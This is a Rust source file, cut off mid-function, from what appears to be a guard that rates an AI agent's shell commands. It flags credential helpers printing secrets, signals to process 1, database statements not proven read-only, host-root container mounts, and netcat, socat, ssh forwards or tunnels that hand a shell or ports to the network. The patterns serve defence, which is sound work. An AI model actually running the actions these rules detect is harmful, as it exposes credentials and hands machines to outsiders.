//! What a program does through its own subcommands that no mode lets a call do unasked: the
//! program table's [`EFFECTFUL`] rows (credentials printed from a program's own store,
//! configuration written through its setter, the system changed, data elsewhere destroyed),
//! process 1 signalled, processes of shared names stopped, statements run by database
//! clients, and servers that give files or a shell to the network.

use warrant_core::decision::Risk;
use warrant_core::evaluator::Stance;

use super::judge::Judge;
use crate::paths::Place;
use crate::policy::codes::{
    FILESYSTEM_SENSITIVE_PATH, FILESYSTEM_SENSITIVE_TREE, SHELL_DESTRUCTIVE,
};
use crate::policy::finding::quote;
use crate::programs::Tree;
use crate::programs::table::{
    CREDENTIAL_HELPERS, DATABASE_CLIENTS, DatabaseClient, Dialect, EFFECTFUL, Effect, EffectRow,
    Effectful, HARMLESS_SQL_FUNCTIONS, REDIS_READ_COMMANDS, SHARED_PROCESS_NAMES, SQLITE_LISTINGS,
};
use crate::shell::{SimpleCommand, Word};

/// Judges what `cmd` does through the table's effects and the servers it starts; adds
/// nothing for any other command.
pub(super) fn judge(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let Some(program) = cmd.program() else { return };
    if let Some(e) = EFFECTFUL.iter().find(|e| e.names.contains(&program)) {
        table_effect(j, cmd, e);
    }
    if CREDENTIAL_HELPERS.iter().any(|h| program.starts_with(h)) {
        let prints = cmd
            .args()
            .iter()
            .any(|w| w.literal().is_none_or(|t| t == "get" || t == "list"));
        let (stance, risk) = if prints {
            (Stance::HardDeny, Risk::Critical)
        } else {
            (Stance::RequireAsk, Risk::High)
        };
        let reason = format!(
            "{} prints or changes the credentials its store holds.",
            quote(cmd)
        );
        j.add(stance, FILESYSTEM_SENSITIVE_PATH, risk, reason);
    }
    if program == "kill" {
        kills_init(j, cmd);
    }
    if matches!(program, "pkill" | "killall") {
        kills_shared(j, cmd);
    }
    databases(j, cmd, program);
    if matches!(program, "docker" | "podman") {
        mounts_host(j, cmd);
    }
    serves(j, cmd, program);
}

/// How a row matched: surely, or only perhaps (a word only known when it runs).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Matched {
    Surely,
    Perhaps,
}

/// The operands of `args` (option values skipped), lower case; `None` for a word only known
/// when it runs.
fn operands(args: &[Word], valued: &[&str]) -> Vec<Option<String>> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            out.push(None);
            continue;
        };
        if t == "--" {
            out.extend(
                args[i..]
                    .iter()
                    .map(|w| w.literal().map(str::to_ascii_lowercase)),
            );
            break;
        }
        if t.starts_with('-') && t.len() > 1 {
            if valued.contains(&t) {
                i += 1;
            }
            continue;
        }
        out.push(Some(t.to_ascii_lowercase()));
    }
    out
}

/// Whether `arg` gives the option `name` (full name with its dashes): the name, with
/// `=VALUE`, a long name's abbreviation, a short one inside a cluster.
fn gives(arg: &str, name: &str) -> bool {
    let bare = name.trim_start_matches('-');
    if bare.chars().count() == 1 && name.len() == 2 {
        let c = bare.chars().next().unwrap_or('-');
        return arg == name
            || (arg.starts_with('-') && !arg.starts_with("--") && arg[1..].starts_with(c))
            || (arg.starts_with('-')
                && !arg.starts_with("--")
                && arg.len() <= 6
                && arg[1..].chars().all(|x| x.is_ascii_alphabetic())
                && arg[1..].contains(c));
    }
    let given = arg.trim_start_matches('-');
    if given.is_empty() || !arg.starts_with('-') {
        return false;
    }
    let given = given.split_once('=').map_or(given, |(n, _)| n);
    given == bare || (given.len() >= 2 && bare.starts_with(given) && !arg.contains('='))
}

/// Whether `text` matches `pattern`, whose `*` stands for any text.
fn glob(pattern: &str, text: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == text,
        Some((head, tail)) => {
            let Some(rest) = text.strip_prefix(head) else {
                return false;
            };
            (0..=rest.len())
                .filter(|&i| rest.is_char_boundary(i))
                .any(|i| glob(tail, &rest[i..]))
        }
    }
}

/// How `row` matches the call's operands and arguments, if it does.
fn matches(row: &EffectRow, ops: &[Option<String>], args: &[Word]) -> Option<Matched> {
    let mut how = Matched::Surely;
    if row.path.len() > ops.len() {
        return None;
    }
    for (want, got) in row.path.iter().zip(ops) {
        match got {
            None => how = Matched::Perhaps,
            Some(g) if glob(want, g) => {}
            Some(_) => return None,
        }
    }
    if !row.with.is_empty() {
        let given = args.iter().any(|w| {
            w.literal()
                .is_some_and(|t| row.with.iter().any(|o| gives(t, o)))
        });
        if !given {
            if args.iter().any(|w| w.literal().is_none()) {
                how = Matched::Perhaps;
            } else {
                return None;
            }
        }
    }
    Some(how)
}

/// The effect of the table row `cmd` matches, and how.
fn effect_of(e: &Effectful, cmd: &SimpleCommand) -> Option<(Effect, Matched)> {
    let args = cmd.args();
    let ops = operands(args, e.valued);
    e.rows
        .iter()
        .find_map(|r| matches(r, &ops, args).map(|m| (r.effect, m)))
        .or_else(|| e.unknown.map(|u| (u, Matched::Perhaps)))
}

fn table_effect(j: &mut Judge<'_>, cmd: &SimpleCommand, e: &Effectful) {
    let Some((effect, how)) = effect_of(e, cmd) else {
        return;
    };
    match (effect, how) {
        (Effect::PrintsCredentials, Matched::Surely) => {
            let reason = format!(
                "{} prints credentials from the program's own store, as reading its credentials file would.",
                quote(cmd)
            );
            j.add(
                Stance::HardDeny,
                FILESYSTEM_SENSITIVE_PATH,
                Risk::Critical,
                reason,
            );
        }
        (Effect::PrintsCredentials, Matched::Perhaps) => {
            let reason = format!(
                "{} reaches a store of credentials and may print them.",
                quote(cmd)
            );
            j.add(
                Stance::RequireAsk,
                FILESYSTEM_SENSITIVE_PATH,
                Risk::High,
                reason,
            );
        }
        (Effect::WritesSetting(files, harmless), _) => {
            if sets_only(cmd.args(), harmless) {
                j.unknown(
                    cmd,
                    "changes a setting of its configuration that runs, fetches and authenticates nothing",
                    Risk::Low,
                );
            } else {
                for f in files {
                    j.write(cmd, &Word::literal_text(*f), None);
                }
            }
        }
        (Effect::WritesConfig(files), _) => {
            for f in files {
                j.write(cmd, &Word::literal_text(*f), None);
            }
        }
        (Effect::ChangesSystem, _) => {
            let reason = format!(
                "{} changes the running system (accounts, network, mounts, kernel or privileges): a person decides that.",
                quote(cmd)
            );
            j.add_once(Stance::RequireAsk, SHELL_DESTRUCTIVE, Risk::High, reason);
        }
        (Effect::ChangesPackages, _) => {
            // A program run from the workspace (a virtual environment's `pip`) changes the
            // workspace's environment only.
            let own = cmd
                .words
                .first()
                .and_then(Word::literal)
                .filter(|w| w.contains('/'))
                .is_some_and(|w| j.places.locate(w, &cmd.cwd).place == Place::Inside);
            if !own {
                binding(
                    j,
                    cmd,
                    "removes or replaces packages installed for the system or the user, outside this workspace: a person decides that",
                    Risk::High,
                );
            }
        }
        (Effect::WritesRoot(option, tail), _) => {
            let args = cmd.args();
            let value = args.iter().enumerate().find_map(|(i, w)| {
                let t = w.literal()?;
                if t == option {
                    return Some(args.get(i + 1).and_then(Word::literal));
                }
                t.strip_prefix(option)
                    .and_then(|v| v.strip_prefix('='))
                    .map(Some)
            });
            match value {
                Some(Some(dir)) => {
                    let target = format!("{}/{tail}", dir.trim_end_matches('/'));
                    j.write(cmd, &Word::literal_text(target), None);
                }
                _ => binding(
                    j,
                    cmd,
                    "writes below a directory only known when it runs",
                    Risk::High,
                ),
            }
        }
        (Effect::DestroysRemote, _) => {
            let reason = format!(
                "{} destroys data kept elsewhere (a database, a bucket, a cluster, infrastructure or volumes), which cannot be taken back: a person decides that.",
                quote(cmd)
            );
            j.add_once(
                Stance::RequireAsk,
                SHELL_DESTRUCTIVE,
                Risk::Critical,
                reason,
            );
        }
    }
}

/// Whether a setter's arguments (`config set KEY VALUE`, `set KEY=VALUE …`) set only keys
/// of `harmless` to plain values, with no option (an option may choose another file).
fn sets_only(args: &[Word], harmless: &[&str]) -> bool {
    let Some(texts) = args
        .iter()
        .map(Word::literal)
        .collect::<Option<Vec<&str>>>()
    else {
        return false;
    };
    if texts.iter().any(|t| t.starts_with('-')) {
        return false;
    }
    let Some(at) = texts.iter().position(|t| *t == "set") else {
        return false;
    };
    let rest = &texts[at + 1..];
    let plain = |v: &str| {
        !v.is_empty()
            && v.chars().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '^' | '~' | '@')
            })
    };
    let pairs: Option<Vec<(&str, &str)>> = if rest.iter().all(|t| t.contains('=')) {
        rest.iter().map(|t| t.split_once('=')).collect()
    } else if let [k, v] = rest {
        Some(vec![(*k, *v)])
    } else {
        None
    };
    pairs.is_some_and(|p| {
        !p.is_empty()
            && p.iter()
                .all(|(k, v)| harmless.contains(&k.to_ascii_lowercase().as_str()) && plain(v))
    })
}

/// A binding ask: `cmd` does `what`, which no mode lets a call do unasked.
fn binding(j: &mut Judge<'_>, cmd: &SimpleCommand, what: &str, risk: Risk) {
    let reason = format!("{} {what}.", quote(cmd));
    j.add_once(Stance::RequireAsk, SHELL_DESTRUCTIVE, risk, reason);
}

/// `kill SIG 1`: process 1 is the system's init; signalling it stops the system, as
/// `shutdown` does.
fn kills_init(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let args = cmd.args();
    if args
        .iter()
        .any(|w| matches!(w.literal(), Some("-l" | "-L" | "--list")))
    {
        return;
    }
    if operands(args, &["-s", "-n"]).iter().any(|o| {
        o.as_deref()
            .is_some_and(|t| t.trim_start_matches('0') == "1")
    }) {
        j.destructive(
            cmd,
            "signals process 1, the system's init, which stops the system",
        );
    }
}

/// `pkill` or `killall` whose every pattern names only programs shared by many unrelated
/// processes ([`SHARED_PROCESS_NAMES`]: `pkill -f node`, `killall python3`): it stops
/// processes the call did not start, the agent's own host among them, which no mode lets a
/// call do unasked. Signal 0 and listing (`pgrep`-like `-l` alone) stop nothing.
fn kills_shared(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let args = cmd.args();
    let mut patterns = Vec::new();
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            patterns.push(None);
            continue;
        };
        if matches!(t, "-0" | "-s0" | "--signal=0" | "-SIG0") {
            return;
        }
        if t == "--" {
            patterns.extend(args[i..].iter().map(Word::literal));
            break;
        }
        if t.starts_with('-') && t.len() > 1 {
            // Options that take the next word as their value.
            if matches!(
                t,
                "-s" | "--signal"
                    | "-u"
                    | "--user"
                    | "-U"
                    | "--uid"
                    | "-g"
                    | "--pgroup"
                    | "-G"
                    | "--group"
                    | "-P"
                    | "--parent"
                    | "-t"
                    | "--terminal"
                    | "--session"
                    | "-F"
                    | "--pidfile"
                    | "--ns"
                    | "--nslist"
                    | "-o"
                    | "--older-than"
                    | "-y"
                    | "--younger-than"
                    | "-Z"
                    | "--context"
            ) {
                i += 1;
            }
            continue;
        }
        patterns.push(Some(t));
    }
    let shared = !patterns.is_empty()
        && patterns.iter().all(|p| {
            p.is_some_and(|p| {
                let bare = p.trim_start_matches('^').trim_end_matches('$');
                let name = bare.rsplit('/').next().unwrap_or(bare);
                SHARED_PROCESS_NAMES.contains(&name.to_ascii_lowercase().as_str())
            })
        });
    if shared {
        binding(
            j,
            cmd,
            "stops every process of a program many unrelated processes share (this session's own host among them), not only those the command started: a person decides that",
            Risk::Critical,
        );
    }
}

/// How a database client is called: the statements it is given inline, its operands, and
/// whether it only prints information.
#[derive(Debug, Default)]
struct ClientCall {
    /// The inline statements (`-c`, `-e`, `--eval`); `None` for one only known when it runs.
    statements: Vec<Option<String>>,
    /// Its operands; `None` for one only known when it runs.
    operands: Vec<Option<String>>,
    /// Why what it runs is not shown: an option that runs or writes what the call does not
    /// show, or one the table does not know.
    hidden: Option<String>,
    /// Whether an option makes it only print information.
    info: bool,
}

/// Reads a database client's arguments the way it reads them ([`DatabaseClient`]).
fn client_call(client: &DatabaseClient, args: &[Word]) -> ClientCall {
    let mut call = ClientCall::default();
    // sqlite3 spells its long options with one dash (and accepts two); redis-cli stops at
    // the first operand, which is the command.
    let one_dash = client.dialect == Dialect::Sqlite;
    let stops = client.dialect == Dialect::Redis;
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            call.operands.push(None);
            if stops {
                call.operands
                    .extend(args[i..].iter().map(|w| w.literal().map(str::to_owned)));
                break;
            }
            continue;
        };
        let next = |i: &mut usize| -> Option<String> {
            *i += 1;
            args.get(*i - 1).and_then(Word::literal).map(str::to_owned)
        };
        if t == "--" || !t.starts_with('-') || t == "-" {
            if t != "--" {
                call.operands.push(Some(t.to_owned()));
            }
            if t == "--" || stops {
                call.operands
                    .extend(args[i..].iter().map(|w| w.literal().map(str::to_owned)));
                break;
            }
            continue;
        }
        let long = one_dash || t.starts_with("--") || client.dialect == Dialect::Redis;
        if long {
            let spelled = if one_dash && t.starts_with("--") {
                &t[1..]
            } else {
                t
            };
            let (name, attached) = match spelled.split_once('=') {
                Some((n, v)) if !one_dash => (n, Some(v.to_owned())),
                _ => (spelled, None),
            };
            if client.attached.contains(&name) {
                continue;
            }
            if client.inline.contains(&name) {
                let value = attached.or_else(|| next(&mut i));
                call.statements.push(value);
            } else if client.hidden.contains(&name) {
                call.hidden = Some(format!(
                    "`{t}` runs or writes what the command does not show"
                ));
            } else if client.valued.contains(&name) {
                if attached.is_none() {
                    next(&mut i);
                }
            } else if client.info.contains(&name) {
                call.info = true;
            } else if !client.flags.contains(&name) {
                call.hidden = Some(format!("`{t}` is not an option the table knows"));
            }
            continue;
        }
        // A cluster of short options; the first that takes a value takes the rest of the
        // word, or the next word.
        for (k, c) in t[1..].char_indices() {
            let name = format!("-{c}");
            let rest = &t[1 + k + c.len_utf8()..];
            let value = |i: &mut usize| {
                if rest.is_empty() {
                    next(i)
                } else {
                    Some(rest.to_owned())
                }
            };
            if client.attached.contains(&name.as_str()) {
                break;
            }
            if client.inline.contains(&name.as_str()) {
                let v = value(&mut i);
                call.statements.push(v);
                break;
            }
            if client.hidden.contains(&name.as_str()) {
                call.hidden = Some(format!(
                    "`{t}` runs or writes what the command does not show"
                ));
                break;
            }
            if client.valued.contains(&name.as_str()) {
                value(&mut i);
                break;
            }
            if client.info.contains(&name.as_str()) {
                call.info = true;
            } else if !client.flags.contains(&name.as_str()) {
                call.hidden = Some(format!("`{t}` is not an option the table knows"));
                break;
            }
        }
    }
    call
}

/// One token of a SQL statement, as far as [`sql_read_only`] reads it.
#[derive(Debug, Clone, PartialEq, Eq)]
enum SqlToken {
    /// A keyword or identifier, lower case, with its dots (`pg_catalog.now`).
    Word(String),
    /// A string, a quoted identifier or a number.
    Value,
    /// An operator or punctuation.
    Punct(char),
}

/// The tokens of `text`, or `None` when it holds anything the reader does not model
/// (comments, which MySQL may execute; `;`; backslashes; psql variables; `$` quoting; `@`
/// variables; parameters).
fn sql_tokens(text: &str) -> Option<Vec<SqlToken>> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        match c {
            c if c.is_whitespace() => i += 1,
            '\'' | '"' | '`' => {
                // A quoted string or identifier; a doubled quote stands for itself.
                i += 1;
                loop {
                    match chars.get(i) {
                        None => return None,
                        Some(&q) if q == c => {
                            if chars.get(i + 1) == Some(&c) {
                                i += 2;
                            } else {
                                i += 1;
                                break;
                            }
                        }
                        Some('\\') => return None,
                        Some(_) => i += 1,
                    }
                }
                out.push(SqlToken::Value);
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let start = i;
                while chars
                    .get(i)
                    .is_some_and(|&c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
                {
                    i += 1;
                }
                let word: String = chars[start..i].iter().collect();
                out.push(SqlToken::Word(word.to_ascii_lowercase()));
            }
            c if c.is_ascii_digit() => {
                while chars
                    .get(i)
                    .is_some_and(|&c| c.is_ascii_alphanumeric() || c == '.')
                {
                    i += 1;
                }
                out.push(SqlToken::Value);
            }
            ':' if chars.get(i + 1) == Some(&':') => {
                out.push(SqlToken::Punct(':'));
                i += 2;
            }
            '-' if chars.get(i + 1) == Some(&'-') => return None,
            '/' if chars.get(i + 1) == Some(&'*') => return None,
            '(' | ')' | ',' | '*' | '=' | '<' | '>' | '!' | '+' | '-' | '/' | '%' | '|' | '.'
            | '[' | ']' | '~' => {
                out.push(SqlToken::Punct(c));
                i += 1;
            }
            _ => return None,
        }
    }
    Some(out)
}

/// Words after which `(` opens a group, a list or a subquery, not a call.
const SQL_GROUPING: &[&str] = &[
    "in",
    "exists",
    "from",
    "join",
    "on",
    "where",
    "and",
    "or",
    "not",
    "select",
    "all",
    "any",
    "some",
    "over",
    "using",
    "by",
    "having",
    "when",
    "then",
    "else",
    "case",
    "lateral",
    "distinct",
    "filter",
    "within",
    "like",
    "between",
    "is",
    "union",
    "intersect",
    "except",
    "array",
];

/// Words that write, lock, run, load or reach beyond the tables read, wherever they stand.
const SQL_WRITING: &[&str] = &[
    "into",
    "insert",
    "update",
    "delete",
    "drop",
    "alter",
    "create",
    "truncate",
    "grant",
    "revoke",
    "copy",
    "call",
    "do",
    "exec",
    "execute",
    "lock",
    "set",
    "merge",
    "upsert",
    "vacuum",
    "reindex",
    "cluster",
    "analyze",
    "analyse",
    "outfile",
    "dumpfile",
    "load",
    "attach",
    "detach",
    "pragma",
    "for",
    "rename",
    "refresh",
    "listen",
    "notify",
    "prepare",
    "deallocate",
    "begin",
    "commit",
    "rollback",
    "savepoint",
    "reset",
    "discard",
    "import",
    "optimize",
    "kill",
    "system",
    "source",
    "with",
    "returning",
    "handler",
    "use",
];

/// Whether the SQL (or CQL) `text` is proven read-only: one `SELECT`, `SHOW`, `EXPLAIN
/// SELECT` or `DESCRIBE` statement (one `;` at its end at most) that writes nothing and calls
/// only [`HARMLESS_SQL_FUNCTIONS`]. Anything else is not proven, however harmless.
fn sql_read_only(text: &str) -> bool {
    let text = text.trim();
    let text = text.strip_suffix(';').unwrap_or(text);
    let Some(tokens) = sql_tokens(text) else {
        return false;
    };
    let word = |k: usize| match tokens.get(k) {
        Some(SqlToken::Word(w)) => Some(w.as_str()),
        _ => None,
    };
    let starts = match word(0) {
        Some("select" | "show" | "describe" | "desc") => true,
        Some("explain") => word(1) == Some("select"),
        _ => false,
    };
    if !starts {
        return false;
    }
    if tokens
        .iter()
        .any(|t| matches!(t, SqlToken::Word(w) if SQL_WRITING.contains(&w.as_str())))
    {
        return false;
    }
    tokens.iter().enumerate().all(|(k, t)| {
        if *t != SqlToken::Punct('(') {
            return true;
        }
        match k.checked_sub(1).map(|p| &tokens[p]) {
            None => true,
            Some(SqlToken::Punct(p)) => *p != '.',
            Some(SqlToken::Value) => false,
            Some(SqlToken::Word(w)) => {
                SQL_GROUPING.contains(&w.as_str()) || HARMLESS_SQL_FUNCTIONS.contains(&w.as_str())
            }
        }
    })
}

/// Whether `text` is one of psql's listings (`\dt`, `\d+ users`, `\l`), at most one
/// pattern after it.
fn psql_listing(text: &str) -> bool {
    let Some(rest) = text.trim().strip_prefix('\\') else {
        return false;
    };
    let (name, arg) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
    let listing = name == "conninfo"
        || name.trim_end_matches(['+', 'S']) == "l"
        || (name.starts_with('d') && name.chars().all(|c| c.is_ascii_alphabetic() || c == '+'));
    let arg = arg.trim();
    listing
        && arg
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '*'))
}

/// Whether an SQLite command (an operand after the database) only reads: a listing
/// dot-command with plain arguments, or read-only SQL.
fn sqlite_reads(text: &str) -> bool {
    if text.trim_start().starts_with('.') {
        let mut words = text.split_whitespace();
        let name = words.next().unwrap_or("");
        return SQLITE_LISTINGS.contains(&name)
            && words.count() <= 2
            && text.split_whitespace().skip(1).all(|w| {
                w.chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '%' | '*'))
            });
    }
    sql_read_only(text)
}

/// Whether an SQLite statement, whatever it changes in the database, reaches nothing but the
/// database file: no dot-command (they run programs and write files), no `ATTACH` or
/// `VACUUM INTO` (which write other files), and none of the shell's file and extension
/// functions.
fn sqlite_confined(text: &str) -> bool {
    if text.trim_start().starts_with('.') {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    !lower
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .any(|w| {
            matches!(
                w,
                "attach"
                    | "vacuum"
                    | "load_extension"
                    | "writefile"
                    | "readfile"
                    | "edit"
                    | "fsdir"
                    | "lsdir"
                    | "zipfile"
                    | "sqlar_compress"
                    | "sqlar_uncompress"
                    | "fts3_tokenizer"
            )
        })
}

/// Database clients ([`DATABASE_CLIENTS`]): statements sent to a server that are not proven
/// read-only are a binding ask, as `dropdb` is; SQLite's statements read or write the
/// database file they name, unless they reach other files or programs.
fn databases(j: &mut Judge<'_>, cmd: &SimpleCommand, program: &str) {
    let Some(client) = DATABASE_CLIENTS.iter().find(|c| c.names.contains(&program)) else {
        return;
    };
    let call = client_call(client, cmd.args());
    let unproven = |j: &mut Judge<'_>, why: &str| {
        let what = format!(
            "runs statements against a database that are not proven read-only ({why}): they may change or destroy data kept there, which a person decides"
        );
        binding(j, cmd, &what, Risk::Critical);
    };
    if let Some(why) = &call.hidden {
        return unproven(j, why);
    }
    let mut statements = call.statements.clone();
    let database = match client.dialect {
        Dialect::Sqlite => {
            statements.extend(call.operands.iter().skip(1).cloned());
            Some(call.operands.first().cloned())
        }
        Dialect::Redis => {
            if !call.operands.is_empty() {
                let command = call.operands[0].as_deref().map(str::to_ascii_lowercase);
                if command
                    .as_deref()
                    .is_none_or(|c| !REDIS_READ_COMMANDS.contains(&c))
                {
                    unproven(j, "a command that may write");
                }
                return;
            }
            None
        }
        _ => None,
    };
    if statements.is_empty() {
        if call.info {
            return;
        }
        return unproven(
            j,
            "they are read from its input, which the command does not show",
        );
    }
    let reads = |t: &str| match client.dialect {
        Dialect::Sql => sql_read_only(t),
        Dialect::Psql => sql_read_only(t) || psql_listing(t),
        Dialect::Sqlite => sqlite_reads(t),
        Dialect::Redis | Dialect::Script => false,
    };
    if statements.iter().all(|s| s.as_deref().is_some_and(reads)) {
        if let Some(Some(Some(db))) = &database {
            j.read(cmd, &Word::literal_text(db.clone()));
        }
        return;
    }
    if let Some(db) = database
        && statements
            .iter()
            .all(|s| s.as_deref().is_some_and(sqlite_confined))
    {
        match db {
            Some(Some(db)) => {
                // A database outside the workspace is data kept elsewhere.
                if j.places.locate(&db, &cmd.cwd).place != Place::Inside {
                    unproven(j, "on a database file outside the workspace");
                }
                j.write(cmd, &Word::literal_text(db), None);
            }
            // In memory: nothing outlives the command.
            None => {}
            Some(None) => binding(
                j,
                cmd,
                "writes a database file only known when it runs",
                Risk::High,
            ),
        }
        return;
    }
    unproven(j, "a statement that may write, or reach files or programs")
}

/// `docker run -v /:/h` (or `--mount`, a host path outside the workspace): the container
/// reaches the host's files as root.
fn mounts_host(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let args = cmd.args();
    let Some(sub) = args
        .iter()
        .position(|w| w.literal().is_none_or(|t| !t.starts_with('-')))
    else {
        return;
    };
    if !matches!(args[sub].literal(), Some("run" | "create") | None) {
        return;
    }
    let mut sources = Vec::new();
    let mut i = sub + 1;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            sources.push(None);
            continue;
        };
        let is_mount = t == "--mount" || t.starts_with("--mount=");
        let value = if matches!(t, "-v" | "--volume" | "--mount") {
            i += 1;
            args.get(i - 1).map(Word::literal)
        } else {
            t.strip_prefix("--volume=")
                .or_else(|| t.strip_prefix("--mount="))
                .or_else(|| {
                    t.strip_prefix("-v")
                        .filter(|v| !v.is_empty() && !t.starts_with("--"))
                })
                .map(Some)
        };
        if let Some(v) = value {
            sources.push(v.map(|v| {
                if is_mount {
                    v.split(',')
                        .find_map(|kv| {
                            kv.strip_prefix("source=")
                                .or_else(|| kv.strip_prefix("src="))
                        })
                        .unwrap_or("")
                        .to_owned()
                } else {
                    v.split(':').next().unwrap_or("").to_owned()
                }
            }));
        }
    }
    for source in sources {
        let host = match source.as_deref() {
            None => true,
            // A named volume is the engine's, not a host path.
            Some(s) if !s.contains('/') && !s.starts_with('~') && !s.starts_with('.') => false,
            Some(s) => j.places.locate(s, &cmd.cwd).place != Place::Inside,
        };
        if host {
            let reason = format!(
                "{} gives a container the host's files outside the workspace, which it reaches as root.",
                quote(cmd)
            );
            j.add_once(Stance::RequireAsk, SHELL_DESTRUCTIVE, Risk::High, reason);
            return;
        }
    }
}

/// Python modules that serve the working directory (`-d DIR` for `http.server`).
const PYTHON_SERVERS: &[&str] = &["http.server", "simplehttpserver", "cgihttpserver"];

/// Programs (run by name or through a package runner) that serve a directory given as their
/// first operand, the working directory without one, and their valued options.
const FILE_SERVERS: &[&str] = &["http-server", "serve", "live-server", "httpd"];
const FILE_SERVER_VALUED: &[&str] = &[
    "-p",
    "--port",
    "-a",
    "--address",
    "-c",
    "-e",
    "-o",
    "-P",
    "--proxy",
    "-l",
    "--listen",
    "-b",
    "--bind-address",
    "-S",
    "-t",
    "-C",
    "--cert",
    "-K",
    "--key",
    "-s",
    "-U",
    "-r",
    "-u",
    "-f",
    "-d",
];
/// Programs that expose this machine's ports or a shell to the network whatever they are
/// given: tunnels.
const TUNNELS: &[&str] = &[
    "ngrok",
    "cloudflared",
    "lt",
    "localtunnel",
    "bore",
    "frpc",
    "chisel",
];
/// ssh's short options that take a value (`ssh -p 22 -R …`).
const SSH_VALUED: &str = "BbcDEeFIiJLlmOoPpQRSWw";

/// Where a server started by `cmd` serves from: `Some(None)` when it is only known when
/// it runs; `None` when `cmd` starts no file server.
fn served_root(cmd: &SimpleCommand, program: &str) -> Option<Option<Word>> {
    let args = cmd.args();
    let lit = |i: usize| args.get(i).and_then(Word::literal);
    let here = || Some(Some(Word::literal_text(".")));
    let is_python = program.starts_with("python") || program == "py" || program == "pypy3";
    if is_python {
        let m = args.iter().position(|w| {
            w.literal()
                .is_some_and(|t| t == "-m" || (t.starts_with("-m") && t.len() > 2))
        })?;
        let module = lit(m)
            .filter(|t| t.len() > 2)
            .map(|t| &t[2..])
            .or_else(|| lit(m + 1))?;
        if !PYTHON_SERVERS.contains(&module.to_ascii_lowercase().as_str()) {
            return None;
        }
        let rest = &args[m + 1..];
        for (k, w) in rest.iter().enumerate() {
            let Some(t) = w.literal() else {
                return Some(None);
            };
            if t == "-d" || (t.starts_with("--d") && "--directory".starts_with(t)) {
                return Some(rest.get(k + 1).cloned());
            }
            if let Some(v) = t.strip_prefix("--d").and_then(|v| v.split_once('='))
                && "directory".starts_with(&format!("d{}", v.0))
            {
                return Some(Some(Word::literal_text(v.1)));
            }
            if let Some(v) = t
                .strip_prefix("-d")
                .filter(|v| !v.is_empty() && !t.starts_with("--"))
            {
                return Some(Some(Word::literal_text(v)));
            }
        }
        return here();
    }
    if program == "php" {
        if !args
            .iter()
            .any(|w| w.literal().is_none_or(|t| t.starts_with("-S")))
        {
            return None;
        }
        for (k, w) in args.iter().enumerate() {
            let Some(t) = w.literal() else {
                return Some(None);
            };
            if t == "-t" {
                return Some(args.get(k + 1).cloned());
            }
            if let Some(v) = t.strip_prefix("-t").filter(|v| !v.is_empty()) {
                return Some(Some(Word::literal_text(v)));
            }
        }
        return here();
    }
    if program == "ruby" {
        let un = args
            .iter()
            .any(|w| w.literal().is_none_or(|t| t == "-run" || t == "-rup"));
        let at = args.iter().position(|w| {
            w.literal()
                .is_none_or(|t| t == "httpd" || t == "-ehttpd" || t.contains("httpd"))
        });
        let (true, Some(at)) = (un, at) else {
            return None;
        };
        return first_operand(&args[at + 1..]).or_else(here);
    }
    let (name, rest) = if matches!(program, "npx" | "pnpx" | "bunx") {
        let k = args
            .iter()
            .position(|w| w.literal().is_none_or(|t| !t.starts_with('-')))?;
        (args[k].literal()?, &args[k + 1..])
    } else if matches!(program, "pnpm" | "yarn" | "bun")
        && lit(0).is_some_and(|t| t == "dlx" || t == "x")
    {
        (lit(1)?, args.get(2..).unwrap_or(&[]))
    } else {
        (program, args)
    };
    let name = name
        .rsplit_once('@')
        .filter(|(n, _)| !n.is_empty())
        .map_or(name, |(n, _)| n);
    if !FILE_SERVERS.contains(&name) {
        return None;
    }
    if name == "httpd" {
        // busybox's `httpd -h DIR`.
        for (k, w) in rest.iter().enumerate() {
            let Some(t) = w.literal() else {
                return Some(None);
            };
            if t == "-h" {
                return Some(rest.get(k + 1).cloned());
            }
        }
        return here();
    }
    first_operand(rest).or_else(here)
}

/// The first operand of a server's arguments (its root), skipping options and their
/// values; `Some(None)` when a word is only known when it runs.
fn first_operand(args: &[Word]) -> Option<Option<Word>> {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            return Some(None);
        };
        if t.starts_with('-') {
            if FILE_SERVER_VALUED.contains(&t) {
                i += 1;
            }
            continue;
        }
        return Some(Some(w.clone()));
    }
    None
}

/// Servers: a file server whose root is not proven inside the workspace and free of
/// secrets, and a listener or tunnel that gives a shell or this machine's ports to the
/// network, are binding asks.
fn serves(j: &mut Judge<'_>, cmd: &SimpleCommand, program: &str) {
    let args = cmd.args();
    let shell = match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => args.iter().any(|w| {
            w.literal().is_none_or(|t| {
                (t.starts_with('-') && !t.starts_with("--") && t.contains(['e', 'c']))
                    || t.starts_with("--exec")
                    || t.starts_with("--sh-exec")
                    || t.starts_with("--lua-exec")
            })
        }),
        "socat" => args.iter().any(|w| {
            w.literal().is_none_or(|t| {
                let t = t.to_ascii_lowercase();
                t.starts_with("exec:")
                    || t.starts_with("system:")
                    || t.contains(",exec:")
                    || t.starts_with("exec,")
            })
        }),
        "ssh" | "autossh" => ssh_forwards(args),
        p if TUNNELS.contains(&p) => true,
        _ => false,
    };
    if shell {
        let reason = format!(
            "{} gives a shell or this machine's ports to the network.",
